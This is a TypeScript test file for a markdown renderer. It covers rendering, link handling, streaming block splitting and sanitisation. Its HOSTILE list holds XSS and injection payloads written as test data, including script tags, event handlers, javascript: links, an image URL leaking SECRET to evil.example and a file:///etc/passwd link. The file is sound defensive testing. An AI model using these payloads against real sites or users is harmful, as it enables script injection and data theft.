import { type ComponentChild, isValidElement, type VNode } from "preact";
import { describe, expect, test } from "vitest";
import { markdown, splitStable } from "../ui/src/model/markdown.ts";

/** What a rendering consists of, as text that a test can read. */
function outline(node: ComponentChild): string {
  if (Array.isArray(node)) return node.map(outline).join("");
  if (!isValidElement(node)) return String(node ?? "");
  const { children, ...props } = node.props as { children?: ComponentChild };
  const named = Object.entries(props).map(([key, value]) => ` ${key}=${value}`);
  return `<${String(node.type)}${named.join("")}>${outline(children)}</${String(node.type)}>`;
}
const render = (text: string) => outline(markdown(text));

function elements(nodes: ComponentChild): VNode[] {
  if (Array.isArray(nodes)) return nodes.flatMap(elements);
  if (!isValidElement(nodes)) return [];
  return [nodes as VNode, ...elements((nodes.props as { children?: ComponentChild }).children)];
}

describe("what people write", () => {
  test.each([
    ["paragraphs and emphasis", "a *b* **c**", "<p>a <em>b</em> <strong>c</strong></p>"],
    ["a tight list", "- a\n- b", "<ul><li>a</li><li>b</li></ul>"],
    ["a list that starts later", "3. a", "<ol start=3><li>a</li></ol>"],
    ["inline code with markup in it", "`<b>`", "<p><code><b></code></p>"],
    ["entities", "a &amp; b", "<p>a & b</p>"],
  ])("%s", (_title, text, expected) => {
    expect(render(text)).toBe(expected);
  });

  test("a fence keeps its text and its language", () => {
    expect(render("```ts\nconst a = 1 < 2;\n```")).toBe("<pre tabIndex=0 data-language=ts><code>const a = 1 < 2;\n</code></pre>");
  });

  test("a link opens elsewhere and passes nothing on", () => {
    expect(render("[x](https://example.com/a)")).toBe(
      "<p><a href=https://example.com/a title=example.com target=_blank rel=noopener noreferrer nofollow>x</a></p>",
    );
  });

  test("an address in plain text is a link", () => {
    expect(render("see https://example.com/a.")).toContain("<a href=https://example.com/a ");
  });

  test("a table can be scrolled and keeps its alignment", () => {
    expect(render("|a|b|\n|-|-:|\n|1|2|")).toContain("<td class=align-right>2</td>");
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<svg onload=alert(1)>",
  '<form action="https://evil.example"><input name=a></form>',
  "<style>body{display:none}</style>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/a)",
  "[x](/\\evil.example/a)",
  "[x](https://user:secret@evil.example/)",
  "[x](file:///etc/passwd)",
  "![x](https://evil.example/?q=SECRET)",
  "![x](data:image/svg+xml;base64,AAAA)",
  "[![x](https://evil.example/a.png)](https://example.com)",
  "<javascript:alert(1)>",
  '<https://example.com/" onmouseover=alert(1)>',
  "[x]: javascript:alert(1)\n\n[x]",
  "```html\n<script>alert(1)</script>\n```",
  '```"onload=alert(1)\nx\n```',
  "a\n<b onclick=alert(1)>b</b>",
];
const TAGS = new Set("p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a hr br div table thead tbody tr th td".split(" "));
const PROPS = new Set("children href title target rel start class tabIndex role aria-label data-language".split(" "));

describe("what a hostile text can do", () => {
  test.each(HOSTILE.map((text) => [text]))("nothing: %s", (text) => {
    for (const { type, props } of elements(markdown(text))) {
      expect(TAGS.has(String(type))).toBe(true);
      for (const key of Object.keys(props)) expect(PROPS.has(key)).toBe(true);
      const href = (props as { href?: string }).href;
      if (href !== undefined) expect(href).toMatch(/^(https?:\/\/[^@]*$|mailto:)/);
    }
  });

  test("what it tried stays readable", () => {
    expect(render("<script>alert(1)</script>")).toContain("<script>alert(1)</script>");
    expect(render("[x](javascript:alert(1))")).toBe("<p>x</p>");
  });
});

describe("growing text", () => {
  test("finished blocks are split off, the rest is the tail", () => {
    expect(splitStable("one\n\ntwo\nstill two\n\nthr")).toEqual({ done: ["one\n", "two\nstill two\n"], tail: "thr" });
  });

  test("a blank line inside a fence ends nothing", () => {
    expect(splitStable("```\na\n\nb\n```\n\nend").done).toEqual(["```\na\n\nb\n```\n"]);
    expect(splitStable("````\n```\n\nx").done).toEqual([]);
  });

  test("the parts are the text, wherever it is cut", () => {
    const text = "# t\n\npara\n\n```js\nx\n\ny\n```\n\n- a\n\n  more\n\nlast";
    for (let end = 0; end <= text.length; end += 1) {
      const { done, tail } = splitStable(text.slice(0, end));
      expect([...done, tail].join("\n")).toBe(text.slice(0, end));
    }
  });
});

test.each([
  ["(see https://example.com/a_(b))", "https://example.com/a_(b)"],
  ["(see https://example.com/a)", "https://example.com/a"],
  ["https://example.com/a?x=1&y=2!", "https://example.com/a?x=1&y=2"],
])("an address ends where the sentence goes on: %s", (text, address) => {
  const links = elements(markdown(text)).filter((node) => node.type === "a");
  expect(links.map((node) => (node.props as { href?: string }).href)).toEqual([address]);
});

test("addresses in code and in links are left alone", () => {
  expect(
    elements(markdown("`https://example.com` [https://a.example](https://b.example)")).filter((node) => node.type === "a"),
  ).toHaveLength(1);
});
